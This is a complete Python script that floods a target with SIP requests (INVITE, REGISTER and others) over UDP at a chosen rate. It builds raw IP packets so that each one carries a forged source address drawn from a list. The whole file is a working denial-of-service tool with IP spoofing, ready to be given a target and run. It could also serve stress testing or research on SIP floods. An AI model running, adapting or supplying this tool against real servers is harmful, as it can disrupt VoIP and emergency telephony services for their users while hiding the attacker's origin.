"""Sends one SIP method over UDP at a steady rate, from one or many (forged) sources, and says what it really sent.

Input: {"target", "port", "method", "rate", "seconds", "sources"}, IPv4; the rate is packets a second of all sources together,
and each packet is a new transaction. Needs a raw socket. Output: {"sent", "seconds", "rate"}.
"""

import json
import os
import socket
import struct
import sys
import time

HEAD = """{method} {uri} SIP/2.0\r
Via: SIP/2.0/UDP {source}:{port};branch=z9hG4bK{token};rport\r
Max-Forwards: 70\r
From: <sip:{user}@{target}>;tag={token}\r
To: <sip:{to}@{target}>\r
Call-ID: {token}@{source}\r
CSeq: 1 {method}\r
Contact: <sip:{user}@{source}:{port}>\r
"""
SDP = "v=0\r\no=- 1 1 IN IP4 {source}\r\ns=-\r\nc=IN IP4 {source}\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0\r\n"


def message(method, target, source, port, number):
    token = f"{os.getpid():x}{number:x}"
    user = str(100 + number % 900)
    uri = f"sip:{target}" if method == "REGISTER" else f"sip:{user}@{target}"
    body = SDP.format(source=source) if method == "INVITE" else ""
    head = HEAD.format(method=method, uri=uri, source=source, port=port, token=token, user=user, to=user, target=target)
    kind = "Content-Type: application/sdp\r\n" if body else ""
    return f"{head}{kind}Content-Length: {len(body)}\r\n\r\n{body}".encode()


def datagram(source, port, target, target_port, payload):
    # Zeros are filled in by the kernel (raw(7)), and a UDP checksum of zero means none (RFC 768).
    lengths = 20 + 8 + len(payload)
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, lengths, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target)
    )
    return ip + struct.pack("!HHHH", port, target_port, 8 + len(payload), 0) + payload


def main(target, port, method, rate, seconds, sources):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    start = time.monotonic()
    while (spent := time.monotonic() - start) < seconds:
        while sent < rate * spent:
            source, own = sources[sent % len(sources)], 20000 + sent // len(sources) % 10000
            payload = message(method, target, source, own, sent)
            raw.sendto(datagram(source, own, target, port, payload), (target, 0))
            sent += 1
        time.sleep(0.0005)
    print(json.dumps({"sent": sent, "seconds": round(spent, 2), "rate": round(sent / spent)}))


if __name__ == "__main__":
    main(**json.load(sys.stdin))
